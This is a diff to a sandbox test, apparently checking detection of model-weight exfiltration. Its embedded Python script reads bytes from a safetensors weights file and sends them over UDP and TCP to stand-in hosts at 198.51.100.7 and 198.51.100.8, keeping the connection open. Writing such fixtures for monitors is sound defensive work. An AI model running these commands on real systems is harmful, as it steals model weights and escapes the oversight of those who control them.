@@ -134,9 +134,12 @@ async def sends_datagrams_and_leaves_a_connection_open() -> None:
         "import socket, time; w = open('/srv/models/marlin-2/model-00001-of-00004.safetensors', 'rb').read()[-60000:]\n"
         "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
         "for i in range(0, 30000, 1000): u.sendto(w[i:i+1000], ('198.51.100.7', 5140))\n"
-        "t = socket.create_connection(('198.51.100.8', 9000)); t.sendall(w[30000:]); time.sleep(600)\n"
+        "t = socket.create_connection(('198.51.100.8', 9000)); t.sendall(w[30000:])\n"
+        "open('/tmp/sent', 'x'); time.sleep(600)\n"
     )
-    result = await sandbox().exec(["bash", "-c", f'nohup python3 -c "{script}" >/dev/null 2>&1 & sleep 1'])
+    result = await sandbox().exec(
+        ["bash", "-c", f'nohup python3 -c "{script}" >/dev/null 2>&1 & until [ -e /tmp/sent ]; do sleep 0.1; done']
+    )
     assert result.success, result.stderr
 
 
